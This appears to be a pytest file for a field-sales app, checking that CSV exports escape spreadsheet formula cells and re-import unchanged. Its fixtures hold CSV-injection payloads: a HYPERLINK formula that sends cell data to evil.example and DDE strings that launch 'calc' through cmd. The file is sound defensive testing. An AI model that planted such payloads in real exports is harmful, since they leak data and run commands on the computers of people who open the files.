"""CSV exports cannot run formulas in a spreadsheet (OWASP's rule), and re-importing them gives the same text."""

from __future__ import annotations

import csv
import io

import pytest
from sqlmodel import select

from fieldapp.models import Customer
from fieldapp.services import csv_cells, exporter, importer

PLANTED = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "kana": "+カナ",
    "address": "-2+3+cmd|' /C calc'!A0",
    "phone": "+81-3-1234-5678",
    "tags": "@SUM(1+1)",
    "notes": "'=already quoted by hand",
}


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def dangerous(value: str) -> bool:
    """A cell a spreadsheet would evaluate: a formula start that is not simply a number."""
    try:
        float(value)
    except ValueError:
        return bool(value) and value[0] in "=+-@\t\r"
    return False


@pytest.mark.parametrize(
    "value,written",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("''", "'''"),
        ("'plain", "'plain"),
        ("plain", "plain"),
        ("", ""),
        (-12.5, -12.5),
    ],
)
def test_neutralise_and_restore(value, written):
    assert csv_cells.neutralise(value) == written
    if isinstance(value, str):
        assert csv_cells.restore(written) == value


def test_customer_export_has_no_formula_cells(
    app, db, make_team, make_customer, make_visit, make_user
):
    team = make_team()
    rep = make_user(team=team)
    customer = make_customer(team=team, external_code="=CODE", lat=-33.86, lon=151.2, **PLANTED)
    make_visit(rep=rep, customer=customer, heard="=cmd|' /C calc'!A0", next_action="@now")
    for lines in (
        exporter.customers_csv(db, team_id=team.id),
        exporter.visits_csv(db, team_id=team.id),
    ):
        rows = cells("".join(lines))
        assert rows
        for row in rows:
            for column, value in row.items():
                assert not dangerous(value), (column, value)
    customer_row = cells("".join(exporter.customers_csv(db, team_id=team.id)))[0]
    assert customer_row["name"].startswith("'=")
    assert customer_row["lat"] == "-33.86"  # a number stays a number


def test_export_then_import_gives_back_the_same_text(app, db, make_team, make_customer):
    team = make_team()
    make_customer(team=team, external_code="C1", **PLANTED)
    data = "".join(exporter.customers_csv(db, team_id=team.id)).encode("utf-8")
    # Change the stored values, then import the export: every planted value comes back exactly.
    stored = db.exec(select(Customer).where(Customer.external_code == "C1")).one()
    for field in PLANTED:
        setattr(stored, field, "changed")
    db.add(stored)
    db.commit()
    with app.test_request_context():
        report = importer.import_csv(db, kind="customers", data=data, team_id=team.id, actor=None)
    assert report.ok, report.errors
    db.commit()
    db.expire_all()
    back = db.exec(select(Customer).where(Customer.external_code == "C1")).one()
    assert {field: getattr(back, field) for field in PLANTED} == PLANTED


def test_download_route_is_neutralised(client, login_as, make_people, make_customer):
    people = make_people()
    make_customer(team=people["team"], name="=1+1", external_code="X-1")
    login_as(people["manager"])
    text = client.get("/manage/export/customers.csv").get_data(as_text=True)
    assert "'=1+1" in text and ",=1+1" not in text
